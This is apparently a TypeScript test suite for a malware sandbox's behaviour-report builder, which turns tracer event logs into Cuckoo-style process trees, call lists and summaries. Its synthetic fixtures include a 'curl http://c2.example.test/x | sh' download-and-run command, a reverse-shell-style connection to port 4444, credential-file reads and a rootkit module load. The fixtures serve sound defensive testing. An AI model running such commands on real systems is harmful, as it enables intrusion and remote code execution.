import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createWriteStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import type { BehaviorEvent, EventBody } from '../../src/report/events.js';
import { reconstructBehavior, TracerNotes } from '../../src/processing/behavior-log.js';
import { commandLine } from '../../src/report/command-line.js';
import { type EventFold, foldEventLog } from '../../src/report/event-log.js';

/**
 * The behaviour section rebuilt from event logs written in the tracer's format (report/events.ts),
 * including a log of one million events that must be processed in bounded memory.
 */

const T0 = 1_700_000_000;

function event(pid: number, ppid: number, ts: number, body: EventBody, comm = 'sample'): BehaviorEvent {
  return { ts: T0 + ts, pid, ppid, tid: pid, comm, ...body } as BehaviorEvent;
}

/** One analysis: a shell runs the sample, which forks a downloader and misbehaves in many ways. */
const SCENARIO: BehaviorEvent[] = [
  event(100, 1, 0, { kind: 'tracer.info', tracer: 'ebpf', message: 'tracing cgroup t1' }, 'nestbox'),
  event(100, 1, 0.1, { kind: 'process.exec', path: '/tmp/sample', argv: ['/tmp/sample', '--run', 'two words'], ret: 0 }, 'bash'),
  event(100, 1, 0.2, { kind: 'file.open', path: '/etc/passwd', flags: 0, mode: 0, ret: 3 }),
  event(100, 1, 0.3, { kind: 'file.open', path: '/tmp/.hidden/drop.bin', flags: 0o1101, mode: 0o755, ret: 4 }),
  event(100, 1, 0.31, { kind: 'file.write', path: '/tmp/.hidden/drop.bin', bytes: 4096 }),
  event(100, 1, 0.32, { kind: 'file.open', path: '/var/log/syslog', flags: 0o1001, mode: 0, ret: 5 }),
  event(100, 1, 0.33, { kind: 'file.open', path: '/root/.ssh/id_rsa', flags: 0, mode: 0, ret: -2 }),
  event(100, 1, 0.34, { kind: 'file.open', path: '/etc', flags: 0o200000, mode: 0, ret: 6 }),
  event(100, 1, 0.4, { kind: 'file.chmod', path: '/tmp/.hidden/drop.bin', mode: 0o755, ret: 0 }),
  event(100, 1, 0.41, { kind: 'file.mkdir', path: '/tmp/.hidden', mode: 0o700, ret: 0 }),
  event(100, 1, 0.42, { kind: 'file.rename', from: '/tmp/.hidden/drop.bin', to: '/usr/local/bin/update', ret: 0 }),
  event(100, 1, 0.43, { kind: 'file.delete', path: '/tmp/sample', ret: 0 }),
  event(100, 1, 0.44, { kind: 'file.delete', path: '/etc/shadow', ret: -13 }),
  event(100, 1, 0.5, { kind: 'process.rename', name: 'kworker/0:1' }),
  event(100, 1, 0.51, { kind: 'process.ptrace', request: 0, target: 0, ret: -1 }),
  event(100, 1, 0.52, { kind: 'memory.memfd', name: 'payload', ret: 7 }),
  event(100, 1, 0.53, { kind: 'memory.exec_map', call: 'mprotect', address: '0x7f0000001000', length: 4096, prot: 5 }),
  event(100, 1, 0.6, { kind: 'process.fork', child: 101 }),
  event(101, 100, 0.7, { kind: 'process.exec', path: '/bin/sh', argv: ['sh', '-c', 'curl http://c2.example.test/x | sh'], ret: 0 }, 'sample'),
  event(101, 100, 0.8, { kind: 'net.socket', family: 'inet', type: 2, protocol: 0, ret: 3 }, 'sh'),
  event(101, 100, 0.81, { kind: 'net.send', fd: 3, family: 'inet', address: '10.200.0.1', port: 53, bytes: 40 }, 'sh'),
  event(101, 100, 0.82, { kind: 'net.connect', fd: 4, family: 'inet', address: '192.0.2.10', port: 80, ret: -115 }, 'sh'),
  event(101, 100, 0.83, { kind: 'net.connect', fd: 5, family: 'unix', address: '/run/nscd/socket', port: 0, ret: -2 }, 'sh'),
  event(101, 100, 0.9, { kind: 'process.setid', call: 'setuid', ids: [0], ret: 0 }, 'sh'),
  event(101, 100, 0.95, { kind: 'process.exit', code: 0 }, 'sh'),
  event(100, 1, 1.0, { kind: 'process.fork', child: 102 }),
  event(102, 100, 1.1, { kind: 'process.exec', path: '/bin/nonexistent', argv: ['nonexistent'], ret: -2 }),
  event(102, 100, 1.2, { kind: 'module.load', call: 'finit_module', path: '/tmp/rootkit.ko', ret: 0 }),
  event(0, 0, 1.5, { kind: 'tracer.lost', count: 17 }, 'nestbox'),
  event(100, 1, 2.0, { kind: 'process.exit', code: 0 }),
];

describe('behaviour from the event log', () => {
  let dir: string;
  let log: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'nestbox-behavior-'));
    log = join(dir, 'events.jsonl');
    writeFileSync(log, [...SCENARIO.map((e) => JSON.stringify(e)), '{"this is": not json', ''].join('\n'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('lists each process with its path, command line and calls in Cuckoo shape', async () => {
    const result = await reconstructBehavior(log);
    assert.ok(result);
    const { processes } = result.section;
    assert.deepEqual(
      processes.map((p) => [p.pid, p.ppid, p.process_name, p.process_path, p.command_line]),
      [
        [100, 1, 'sample', '/tmp/sample', "/tmp/sample --run 'two words'"],
        [101, 100, 'sh', '/bin/sh', "sh -c 'curl http://c2.example.test/x | sh'"],
        [102, 100, 'sample', '/tmp/sample', "/tmp/sample --run 'two words'"],
      ],
    );
    assert.equal(processes[0]!.first_seen, T0 + 0.1);
    assert.equal(processes[1]!.first_seen, T0 + 0.6, 'a child is seen when it is forked');
    const failedOpen = processes[0]!.calls.find((call) => call.api === 'openat' && call.arguments.path === '/root/.ssh/id_rsa');
    assert.deepEqual(failedOpen, {
      api: 'openat',
      category: 'file',
      time: T0 + 0.33,
      tid: 100,
      status: false,
      return_value: -2,
      arguments: { path: '/root/.ssh/id_rsa', flags: 0, mode: 0 },
      repeated: 0,
    });
    assert.equal(processes[1]!.calls.find((call) => call.api === 'connect')!.category, 'network');
    assert.ok(
      processes.every((p) => p.calls.every((call) => /^[a-z0-9_]+$/.test(call.api))),
      'calls are named by system calls, never by nestbox event kinds (events without a name take their likely call)',
    );
    assert.equal(processes[0]!.calls.length, 19, 'every event of pid 100; the tracer notes are no calls');
    assert.equal(result.tracer, 'ebpf');
  });

  it('builds the process tree from forks', async () => {
    const { section } = (await reconstructBehavior(log))!;
    assert.equal(section.processtree.length, 1);
    const root = section.processtree[0]!;
    assert.equal(root.pid, 100);
    assert.deepEqual(root.children.map((child) => child.pid), [101, 102]);
    assert.deepEqual(root.children[0]!.children, []);
  });

  it('summarises what the processes did, per process and in all', async () => {
    const { section } = (await reconstructBehavior(log))!;
    const { summary } = section;
    assert.deepEqual(summary.command_line, ["/tmp/sample --run 'two words'", "sh -c 'curl http://c2.example.test/x | sh'"]);
    assert.deepEqual(summary.file_opened, ['/etc/passwd', '/tmp/.hidden/drop.bin', '/var/log/syslog']);
    assert.deepEqual(summary.file_read, ['/etc/passwd']);
    assert.deepEqual(summary.file_created, ['/tmp/.hidden/drop.bin']);
    assert.deepEqual(summary.file_recreated, ['/var/log/syslog']);
    assert.deepEqual(summary.file_written, ['/tmp/.hidden/drop.bin']);
    assert.deepEqual(summary.file_failed, ['/root/.ssh/id_rsa']);
    assert.deepEqual(summary.directory_enumerated, ['/etc']);
    assert.deepEqual(summary.directory_created, ['/tmp/.hidden']);
    assert.deepEqual(summary.file_moved, ['/tmp/.hidden/drop.bin -> /usr/local/bin/update']);
    assert.deepEqual(summary.file_deleted, ['/tmp/sample'], 'a failed delete is no deletion');
    assert.deepEqual(summary.file_permission_changed, ['/tmp/.hidden/drop.bin']);
    assert.deepEqual(summary.connects_ip, ['10.200.0.1', '192.0.2.10'], 'unix sockets are no IP connections');
    assert.deepEqual(summary.process_renamed, ['kworker/0:1']);
    assert.deepEqual(summary.ptrace, ['PTRACE_TRACEME']);
    assert.deepEqual(summary.memfd_created, ['payload']);
    assert.deepEqual(summary.executable_mapping, ['anonymous mprotect 0x7f0000001000']);
    assert.deepEqual(summary.privilege_change, ['setuid(0)']);
    assert.deepEqual(summary.module_loaded, ['/tmp/rootkit.ko']);
    const generic = section.generic.find((entry) => entry.pid === 101)!;
    assert.deepEqual(generic.summary.connects_ip, ['10.200.0.1', '192.0.2.10']);
    assert.equal(generic.summary.file_opened, undefined);
    assert.equal(generic.process_path, '/bin/sh');
  });

  it('counts every call per process and reports lost events and unreadable lines as anomalies', async () => {
    const { section, eventsLost } = (await reconstructBehavior(log))!;
    assert.deepEqual(section.apistats['101'], { execve: 1, socket: 1, sendto: 1, connect: 2, setuid: 1, exit_group: 1 });
    assert.equal(section.apistats['0'], undefined, 'tracer notes belong to no process');
    assert.equal(eventsLost, 17);
    assert.deepEqual(section.anomaly, [
      { category: 'tracer', funcname: 'tracer.lost', message: 'the tracer lost 17 events' },
      { category: 'log', funcname: 'events.jsonl', message: '1 lines of the event log could not be read' },
    ]);
  });

  it('names the hosts and URLs from the capture for the processes whose traffic they were', async () => {
    const { section } = (await reconstructBehavior(log, {
      network: {
        dns: [{ request: 'c2.example.test', answers: [{ type: 'A', data: '192.0.2.10' }] }],
        dnsServers: ['10.200.0.1'],
        urlsByDestination: new Map([['192.0.2.10|80', ['http://c2.example.test/x']]]),
      },
    }))!;
    assert.deepEqual(section.summary.resolves_host, ['c2.example.test']);
    assert.deepEqual(section.summary.connects_host, ['c2.example.test']);
    assert.deepEqual(section.summary.fetches_url, ['http://c2.example.test/x']);
    const downloader = section.generic.find((entry) => entry.pid === 101)!;
    assert.deepEqual(downloader.summary.fetches_url, ['http://c2.example.test/x']);
    assert.deepEqual(downloader.summary.resolves_host, ['c2.example.test']);
    assert.equal(section.generic.find((entry) => entry.pid === 100)!.summary.fetches_url, undefined);
  });

  it('leaves the calls out when asked (json.calls=0) and cuts at its limits, saying so', async () => {
    const withoutCalls = (await reconstructBehavior(log, { keepCalls: false }))!.section;
    assert.ok(withoutCalls.processes.every((p) => p.calls.length === 0));
    assert.equal(withoutCalls.apistats['100']!['openat'], 5);
    const limited = (await reconstructBehavior(log, { limits: { callsPerProcess: 3, calls: 5, valuesPerProcess: 1, values: 2, processes: 2 } }))!.section;
    assert.equal(limited.processes.length, 2);
    assert.deepEqual(limited.processes.map((p) => p.calls.length), [3, 2]);
    assert.equal(limited.summary.file_opened!.length, 2);
    const truncated = limited.anomaly.filter((entry) => entry.category === 'truncated').map((entry) => entry.funcname);
    assert.deepEqual(truncated, ['processes', 'calls', 'summary']);
  });

  it('has no section without a log and survives a log of garbage', async () => {
    assert.equal(await reconstructBehavior(join(dir, 'missing.jsonl')), undefined);
    const garbage = join(dir, 'garbage.jsonl');
    writeFileSync(garbage, '42\nnull\n{"kind": 5}\n[1,2]\n{"kind":"process.exec","pid":7,"ppid":1,"tid":7,"comm":"x","ts":1,"path":9,"argv":"not a list","ret":0}\n');
    const result = await reconstructBehavior(garbage);
    assert.ok(result);
    assert.equal(result.section.processes.length, 1);
    assert.equal(result.section.processes[0]!.command_line, '');
    assert.match(result.section.anomaly[0]!.message, /^4 lines/);
  });

  it('feeds several folds from one reading; a fold that throws is dropped alone and the others see every event', async () => {
    const seen: string[] = [];
    let broken = 0;
    const counting: EventFold<number> = { event: (item) => void seen.push(item.kind), result: () => seen.length };
    const throwing: EventFold<number> = {
      event: () => {
        broken++;
        throw new Error('fold failed');
      },
      result: () => broken,
    };
    const tracer = new TracerNotes();
    const outcomes = await foldEventLog(log, [counting, throwing, tracer]);
    assert.ok(outcomes);
    assert.deepEqual(outcomes[0], { ok: true, value: SCENARIO.length });
    assert.equal(outcomes[1]?.ok, false);
    assert.equal(broken, 1, 'the failed fold is fed nothing more');
    assert.deepEqual(outcomes[2], { ok: true, value: { lost: 17, reports: 1, name: 'ebpf' } });
    assert.equal(await foldEventLog(join(dir, 'missing.jsonl'), [counting]), undefined);
  });

  it('quotes command-line arguments only where a shell would need it', () => {
    assert.equal(commandLine(['ls', '-la', '/tmp/a b', "it's", 'k=v,x:y@z%']), "ls -la '/tmp/a b' 'it'\\''s' k=v,x:y@z%");
  });
});

/** Events as a tracer that names its calls writes them: every event has its `api`, and per-process counts. */
function named(pid: number, ts: number, api: string, body: EventBody): BehaviorEvent {
  return { ...event(pid, 1, ts, body), api } as BehaviorEvent;
}

const SYSCALLS: BehaviorEvent[] = [
  named(200, 0.1, 'execve', { kind: 'process.exec', path: '/tmp/rs', argv: ['./rs'], ret: 0 }),
  named(200, 0.2, 'socket', { kind: 'net.socket', family: 'inet', type: 1, protocol: 0, ret: 3 }),
  named(200, 0.3, 'connect', { kind: 'net.connect', fd: 3, family: 'inet', address: '203.0.113.9', port: 4444, ret: 0 }),
  named(200, 0.4, 'sendto', {
    kind: 'net.send', fd: 3, family: 'inet', address: '203.0.113.9', port: 4444, bytes: 9, payload: Buffer.from('{"a":1}\r\n\u0000\\').toString('hex'), ret: 9,
  }),
  named(200, 0.5, 'recvfrom', { kind: 'net.recv', fd: 3, family: 'inet', address: '203.0.113.9', port: 4444, bytes: 3, payload: '6f6b0a', ret: 3 }),
  named(200, 0.6, 'dup2', { kind: 'file.dup', oldfd: 3, newfd: 0, object: 'socket', family: 'inet', address: '203.0.113.9', port: 4444, ret: 0 }),
  named(200, 0.7, 'setsid', { kind: 'system.call', args: {}, ret: 200 }),
  { ...named(200, 0.71, 'mount', { kind: 'system.call', args: { source: 'none', target: '/mnt', filesystemtype: 'tmpfs', mountflags: 0 }, ret: -1 }), repeated: 6 },
  named(200, 0.8, 'clock_nanosleep', { kind: 'process.sleep', seconds: 600, ret: 0 }),
  named(200, 0.9, 'creat', { kind: 'file.open', path: '/tmp/x', flags: 0o1101, mode: 0o644, ret: 4 }),
  { ...event(200, 1, 1.0, { kind: 'process.counts', counts: { openat: 40, read: 12, getdents64: 3, creat: 1 } }) } as BehaviorEvent,
  named(201, 1.1, 'execve', { kind: 'process.exec', path: '/bin/sh', argv: ['sh', '-c', 'id'], ret: 0 }),
  named(201, 1.2, 'openat', { kind: 'file.open', path: '/etc/passwd', flags: 0, mode: 0, ret: 3 }),
  named(201, 1.3, 'openat', { kind: 'file.open', path: '/etc/group', flags: 0, mode: 0, ret: 3 }),
];

describe('behaviour named by system calls', () => {
  let dir: string;
  let log: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'nestbox-behavior-api-'));
    log = join(dir, 'events.jsonl');
    writeFileSync(log, SYSCALLS.map((e) => JSON.stringify(e)).join('\n') + '\n');
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('takes apistats from the tracer\'s counts, which include calls it did not decode', async () => {
    const { section } = (await reconstructBehavior(log))!;
    assert.deepEqual(section.apistats['200'], { openat: 40, read: 12, getdents64: 3, creat: 1 });
  });

  it('counts the decoded calls by name for a process the tracer gave no counts for', async () => {
    const { section } = (await reconstructBehavior(log))!;
    assert.deepEqual(section.apistats['201'], { execve: 1, openat: 2 });
  });

  it('adds the calls the supervisor answered itself, which never reached the tracer, to their process', async () => {
    const cut = (pid: number, call: string, at: number) => ({ pid, call, seconds: 600, time: T0 + at });
    const sleeps = [
      cut(200, 'nanosleep', 0.85), cut(200, 'nanosleep', 0.86), cut(200, 'clock_nanosleep', 0.87), cut(201, 'poll', 1.35),
      // Rewritten, then let go on: the tracer counted it.
      cut(200, 'alarm', 0.88),
    ];
    // Past its first records, the supervisor counts (alarm: the tracer's to count; process 0: past its table).
    const unrecorded = [{ pid: 201, call: 'poll', count: 5 }, { pid: 200, call: 'alarm', count: 3 }, { pid: 0, call: '', count: 9 }];
    const { section } = (await reconstructBehavior(log, { supervised: { sleeps, unrecorded } }))!;
    assert.deepEqual(section.apistats['200'], { openat: 40, read: 12, getdents64: 3, creat: 1, nanosleep: 2, clock_nanosleep: 1 });
    assert.deepEqual(section.apistats['201'], { execve: 1, openat: 2, poll: 6 });
    // Listed among the process's calls where they happened, marked as answered by the supervisor.
    const calls = (pid: number) => section.processes.find((p) => p.pid === pid)!.calls;
    assert.deepEqual(calls(201).map((call) => call.api), ['execve', 'openat', 'openat', 'poll']);
    assert.deepEqual(calls(200).slice(-5).map((call) => call.api), ['clock_nanosleep', 'nanosleep', 'nanosleep', 'clock_nanosleep', 'creat']);
    assert.deepEqual(calls(201).at(-1), {
      api: 'poll', category: 'synchronisation', time: T0 + 1.35, tid: 201, status: true, return_value: 0, arguments: { seconds: 600, shortened: true }, repeated: 0,
    });
  });

  it('keeps a process the log does not know out, whatever the supervisor recorded', async () => {
    const { section } = (await reconstructBehavior(log, { supervised: { sleeps: [{ pid: 999, call: 'nanosleep', seconds: 600, time: T0 + 0.5 }], unrecorded: [] } }))!;
    assert.equal(section.apistats['999'], undefined);
  });

  it('gives every call in Cuckoo\'s shape, payloads as escaped text', async () => {
    const { section } = (await reconstructBehavior(log))!;
    const calls = section.processes.find((p) => p.pid === 200)!.calls;
    assert.deepEqual(calls.map((call) => call.api), ['execve', 'socket', 'connect', 'sendto', 'recvfrom', 'dup2', 'setsid', 'mount', 'clock_nanosleep', 'creat']);
    const byApi = (api: string) => calls.find((call) => call.api === api)!;
    assert.deepEqual(byApi('sendto'), {
      api: 'sendto',
      category: 'network',
      time: T0 + 0.4,
      tid: 200,
      status: true,
      return_value: 9,
      arguments: { fd: 3, family: 'inet', address: '203.0.113.9', port: 4444, bytes: 9, buffer: '{"a":1}\\r\\n\\x00\\\\' },
      repeated: 0,
    });
    assert.deepEqual(byApi('recvfrom').arguments.buffer, 'ok\\n');
    assert.equal(byApi('recvfrom').return_value, 3);
    assert.deepEqual(byApi('dup2').arguments, { oldfd: 3, newfd: 0, object: 'socket', family: 'inet', address: '203.0.113.9', port: 4444 });
    assert.equal(byApi('dup2').category, 'file');
    assert.deepEqual([byApi('setsid').category, byApi('setsid').status, byApi('setsid').return_value], ['process', true, 200]);
    assert.deepEqual(byApi('mount').arguments, { source: 'none', target: '/mnt', filesystemtype: 'tmpfs', mountflags: 0 });
    assert.deepEqual([byApi('mount').category, byApi('mount').status], ['system', false]);
    assert.equal(byApi('mount').repeated, 6, 'a folded run of the same call keeps its count of repeats, as Cuckoo\'s monitor does');
    assert.equal(byApi('setsid').repeated, 0);
    assert.deepEqual([byApi('clock_nanosleep').category, byApi('clock_nanosleep').arguments], ['synchronisation', { seconds: 600 }]);
    assert.equal(byApi('creat').category, 'file');
  });

  it('keeps the summary working with the new events', async () => {
    const { section } = (await reconstructBehavior(log))!;
    assert.deepEqual(section.summary.connects_ip, ['203.0.113.9']);
    assert.deepEqual(section.summary.file_created, ['/tmp/x']);
    assert.deepEqual(section.summary.command_line, ['./rs', 'sh -c id']);
  });
});

describe('behaviour from a million events', () => {
  let dir: string;
  let log: string;
  const EVENTS = 1_000_000;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'nestbox-behavior-big-'));
    log = join(dir, 'events.jsonl');
    const out = createWriteStream(log);
    const write = (text: string) => new Promise<void>((resolve) => (out.write(text) ? resolve() : out.once('drain', resolve)));
    for (let start = 0; start < EVENTS; start += 10000) {
      const lines: string[] = [];
      for (let i = start; i < start + 10000; i++) {
        const pid = 1000 + (i % 50);
        const body: EventBody =
          i < 50 ? { kind: 'process.exec', path: `/usr/bin/worker${pid}`, argv: [`worker${pid}`, String(i)], ret: 0 }
          : i % 4 === 0 ? { kind: 'file.open', path: `/data/file-${i}.txt`, flags: 0o101, mode: 0o644, ret: 3 }
          : i % 4 === 1 ? { kind: 'file.write', path: `/data/file-${i - 1}.txt`, bytes: 512 }
          : i % 4 === 2 ? { kind: 'net.connect', fd: 3, family: 'inet', address: `198.51.100.${i % 200}`, port: 443, ret: -115 }
          : { kind: 'memory.exec_map', call: 'mmap', address: `0x7f${(i % 5000).toString(16)}000`, length: 4096, prot: 5 };
        lines.push(JSON.stringify(event(pid, 1, i / 1000, body, `worker${pid}`)));
      }
      await write(lines.join('\n') + '\n');
    }
    await new Promise((resolve) => out.end(resolve));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('processes them in bounded memory, with exact counts', async () => {
    // A fresh process, so its peak RSS is this log's alone, with a heap far smaller than the log (150 MB):
    // it can only finish if what it keeps is bounded. It reports the growth of its peak RSS.
    const moduleUrl = new URL('../../src/processing/behavior-log.js', import.meta.url).href;
    const script = `
      import { reconstructBehavior } from ${JSON.stringify(moduleUrl)};
      const before = process.resourceUsage().maxRSS;
      const started = Date.now();
      const result = await reconstructBehavior(process.argv[1]);
      const section = result.section;
      const calls = section.processes.reduce((sum, p) => sum + p.calls.length, 0);
      const counted = Object.values(section.apistats).reduce((sum, apis) => sum + Object.values(apis).reduce((a, b) => a + b, 0), 0);
      console.log(JSON.stringify({
        growthKiB: process.resourceUsage().maxRSS - before, ms: Date.now() - started, processes: section.processes.length,
        calls, counted, written: section.summary.file_written.length, anomalies: section.anomaly.map((a) => a.funcname),
      }));`;
    const { stdout } = await promisify(execFile)(process.execPath, ['--max-old-space-size=128', '--input-type=module', '-e', script, log], { maxBuffer: 1 << 20 });
    const facts = JSON.parse(stdout) as { growthKiB: number; ms: number; processes: number; calls: number; counted: number; written: number; anomalies: string[] };
    assert.equal(facts.processes, 50);
    assert.equal(facts.counted, EVENTS, 'apistats count every event');
    assert.equal(facts.calls, 100000, 'calls are kept up to the limit');
    assert.equal(facts.written, 10000, 'summary values are kept up to the limit');
    assert.deepEqual(facts.anomalies, ['calls', 'summary']);
    assert.ok(facts.growthKiB < 150 * 1024, `peak RSS grew by ${Math.round(facts.growthKiB / 1024)} MiB`);
    console.log(`# a million events: ${facts.ms} ms, peak RSS +${Math.round(facts.growthKiB / 1024)} MiB`);
  });

  it('keeps memory flat when calls are left out', async () => {
    const moduleUrl = new URL('../../src/processing/behavior-log.js', import.meta.url).href;
    const script = `
      import { reconstructBehavior } from ${JSON.stringify(moduleUrl)};
      const before = process.resourceUsage().maxRSS;
      await reconstructBehavior(process.argv[1], { keepCalls: false });
      console.log(process.resourceUsage().maxRSS - before);`;
    const { stdout } = await promisify(execFile)(process.execPath, ['--max-old-space-size=48', '--input-type=module', '-e', script, log]);
    const growthKiB = Number(stdout.trim());
    console.log(`# a million events without calls: peak RSS +${Math.round(growthKiB / 1024)} MiB`);
    assert.ok(growthKiB < 100 * 1024, `peak RSS grew by ${Math.round(growthKiB / 1024)} MiB`);
  });
});
